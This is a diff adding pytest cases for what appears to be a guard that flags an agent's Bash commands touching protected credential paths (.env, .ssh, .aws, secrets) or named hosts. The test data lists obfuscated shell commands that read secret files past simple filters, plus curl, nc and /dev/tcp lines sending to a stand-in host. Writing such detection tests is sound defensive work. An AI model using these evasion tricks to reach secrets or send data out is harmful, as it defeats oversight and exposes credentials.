@@ -93,6 +93,85 @@ def test_a_command_reads_what_its_words_name(path: str, command: str, about: boo
     assert matches(FlowMatch(tools=("Bash",), paths=(path,)), _bash(command)) is about
 
 
+@pytest.mark.parametrize(
+    ("path", "command"),
+    [
+        ("/a b/**", 'cat "/a b/x"'),
+        ("/a b/**", "cat /a\\ b/x"),
+        ("**/my keys.txt", "cat 'my keys.txt'"),
+        ("**/.ssh/**", "cat ~/.{aws,ssh}/config"),
+        ("/srv/secrets/**", "cat /srv/{a,secrets}/x"),
+        ("**/.env", "cat $'\\x2eenv'"),
+        ("**/.env", "cat .e\\\nnv"),
+        ("**/.env", "a=.e; cat ${a}nv"),
+        ("**/.env", "cat ${X:-.e}nv"),
+        ("**/.env", "bash -c 'cat .'\"e\"'nv'"),
+        ("**/.env", "bash <<'E'\ncat .e'n'v\nE"),
+        ("**/my keys.txt", "cat <'my keys.txt'"),
+        ("**/my keys.txt", "echo $(<'my keys.txt')"),
+        ("**/my keys.txt", "xargs -I{} cat {} <<<'my keys.txt'"),
+        ("**/my keys.txt", "for f in a 'my keys.txt' b; do cat \"$f\"; done"),
+        ("**/my keys.txt", 'for f in a "my keys.txt" `x`; do cat "$f"; done'),
+        ("/srv/secrets/**", "cd /srv && cat secrets/x"),
+        ("/srv/secrets/key", "cd /srv; cd secrets; cat key"),
+        ("/srv/secrets/**", "cd '/srv' && (cd x; cd ../secrets && cat x)"),
+        ("/srv/secrets/**", "tar -C /srv -c secrets"),
+        ("/srv/secrets/**", "git -C/tmp status; tar c --directory=/srv secrets"),
+        ("**/.aws/**", "cd; cat .a*/credentials"),
+    ],
+)
+def test_a_command_line_is_read_as_its_shell_reads_it(path: str, command: str) -> None:
+    assert matches(FlowMatch(tools=("Bash",), paths=(path,)), _bash(command))
+
+
+@pytest.mark.parametrize(
+    ("path", "command", "about"),
+    [
+        ("**/.ssh/**", "cat ~/.ss*/id", True),
+        ("**/.ssh/**", "cat ~/.[s]?h/*", True),
+        ("**/.ssh/**", "cp -r ~/.s* /tmp", True),
+        ("**/.ssh/**", "for f in ~/.s*/*; do cat $f; done", True),
+        ("**/.ssh/**", "cat ~/*.py ~/* src/*/x ~/.sh*/x", False),
+        ("**/.env", "cat .e*", True),
+        ("**/.env", "cat *", False),
+        ("**/.env", "cat */.e?v", True),
+        ("**/.env", "cat .env?", False),
+        ("**/.env", "sed 's/.*//' x; grep '.*' \"*.env\" x", False),
+        ("**/*.pem", "cat certs/k*", True),
+        ("**/*.pem", "cat certs/*.txt", False),
+        ("**/*.pem", "cat certs/?????", True),
+        ("/srv/secrets/key", "cat /srv/s*/k*", True),
+        ("/srv/secrets/key", "cat /srv/*/*", True),
+        ("/srv/secrets/key", "cat /srv/*", False),
+        ("/srv/secrets/key", "cd /srv; cat */key", True),
+        ("/srv/**", "cat /s*/x", True),
+        ("/srv/**", "cat /var/*", False),
+        ("~/.aws/**", "cat ~/.aw*/x", True),
+    ],
+)
+def test_a_pattern_of_a_shell_names_every_file_that_it_may_stand_for(path: str, command: str, about: bool) -> None:
+    assert matches(FlowMatch(tools=("Bash",), paths=(path,)), _bash(command)) is about
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl https://ex$'\\x61'mple.com",
+        "curl https://{foo,example}.com/x",
+        "h=example; curl https://$h.com",
+        "bash -c 'nc exa\"mp\"le.com 80'",
+        "for h in foo example; do :; done; cat x >/dev/tcp/'exa'mple.com/80",
+    ],
+)
+def test_a_command_line_names_a_host_as_its_shell_reads_it(command: str) -> None:
+    assert matches(FlowMatch(tools=("Bash",), hosts=("example.com",)), _bash(command))
+
+
+def test_a_line_that_names_too_much_to_be_compared_may_name_anything() -> None:
+    folders = "; ".join(f"cd f{number}" for number in range(300))
+    assert matches(FlowMatch(tools=("Bash",), paths=("/x/y",)), _bash(f"{folders}; ls {'a b ' * 50}"))
+
+
 def test_a_text_that_is_no_command_names_only_the_path_that_it_is() -> None:
     assert not matches(FlowMatch(paths=("**/.env",)), act("write_file", path="README.md", content="copy .env first"))
 
